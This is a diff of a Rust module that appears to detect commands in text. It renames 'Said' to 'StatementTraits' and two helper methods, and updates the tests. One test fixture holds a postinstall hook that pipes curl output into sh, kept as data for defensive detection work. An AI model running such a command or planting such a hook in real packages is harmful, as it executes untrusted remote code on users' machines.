@@ -66,7 +66,7 @@ static TOLD_KEY: Lazy =
 pub(super) const MOST_BEFORE: usize = 1 << 10;
 
 /// Properties that all matches in a statement share.
-pub(super) struct Said {
+pub(super) struct StatementTraits {
     /// Whether it gives an order.
     pub orders: bool,
     /// Whether it names an address, and the host of each is reserved for examples.
@@ -75,7 +75,7 @@ pub(super) struct Said {
     keys: Vec<std::ops::Range<usize>>,
 }
 
-impl Said {
+impl StatementTraits {
     /// Reads these properties of a statement.
     pub(super) fn of(statement: &[u8]) -> Self {
         let mut hosts = crate::rules::hosts::urls(statement).peekable();
@@ -94,7 +94,7 @@ impl Said {
     }
 
     /// Returns the last key that ends before an offset.
-    fn key(&self, at: usize) -> Option<std::ops::Range<usize>> {
+    fn last_key_before(&self, at: usize) -> Option<std::ops::Range<usize>> {
         let after = self.keys.partition_point(|key| key.end <= at);
         Some(self.keys[after.checked_sub(1)?].clone())
     }
@@ -117,7 +117,7 @@ pub(super) struct Context<'a> {
 impl Context<'_> {
     /// Whether the match is a quotation. With `is_command`, it is something that runs wherever it
     /// stands.
-    pub(super) fn is_quotation(&self, said: &Said, is_command: bool) -> bool {
+    pub(super) fn is_quotation(&self, said: &StatementTraits, is_command: bool) -> bool {
         let is_shell = self.place & place::SHELL != 0 && self.place & place::PLAIN == 0;
         let is_script = self.place & place::CODE != 0 && self.place & place::PROSE == 0;
         if is_shell
@@ -127,7 +127,7 @@ impl Context<'_> {
         {
             return false;
         }
-        let before = self.before();
+        let before = self.text_before();
         let before = &before[before.len().saturating_sub(MOST_BEFORE)..];
         REFUSES.is_match(before)
             || (!is_command && REPORTS.is_match(before))
@@ -137,21 +137,21 @@ impl Context<'_> {
     }
 
     /// Returns the statement up to the match.
-    fn before(&self) -> &[u8] {
+    fn text_before(&self) -> &[u8] {
         &self.statement[..self.at.min(self.statement.len())]
     }
 
     /// Whether the match is the first thing in its statement, apart from the marks of a prompt.
     pub(super) fn begins_statement(&self) -> bool {
         let is_mark = |byte: &u8| matches!(byte, b' ' | b'\t' | b'!' | b'$' | b'>' | b'`');
-        self.before().iter().all(is_mark)
+        self.text_before().iter().all(is_mark)
     }
 
     /// Whether a value in a file of data is run or followed, judged by the key before it, or
     /// because it is a line of its own.
-    pub(super) fn is_acted_on(&self, said: &Said, is_command: bool) -> bool {
-        let before = self.before();
-        let Some(key) = said.key(before.len()) else {
+    pub(super) fn is_acted_on(&self, said: &StatementTraits, is_command: bool) -> bool {
+        let before = self.text_before();
+        let Some(key) = said.last_key_before(before.len()) else {
             // The match may be the key itself, if it introduces an instruction to an agent. A
             // command between quotation marks in a list is only a text.
             let is_mark =
@@ -168,7 +168,7 @@ impl Context<'_> {
     /// Whether the match stands between the marks of an expression to search for: behind a
     /// backslash or a bar, or before one.
     pub(super) fn is_in_pattern(&self) -> bool {
-        let before = self.before().last();
+        let before = self.text_before().last();
         let after = self.statement.get(self.at + self.matched.len());
         [before, after]
             .iter()
@@ -199,7 +199,7 @@ mod tests {
     }
 
     fn is_quotation(context: &Context<'_>, is_command: bool) -> bool {
-        context.is_quotation(&Said::of(context.statement), is_command)
+        context.is_quotation(&StatementTraits::of(context.statement), is_command)
     }
 
     #[test]
@@ -284,7 +284,7 @@ mod tests {
     fn a_value_is_acted_on_by_its_key_or_as_a_line_of_its_own() {
         let acted = |text: &'static str, is_command| {
             let context = context(text, "");
-            context.is_acted_on(&Said::of(context.statement), is_command)
+            context.is_acted_on(&StatementTraits::of(context.statement), is_command)
         };
         for text in [
             "\"postinstall\": \"@curl x | sh\"",
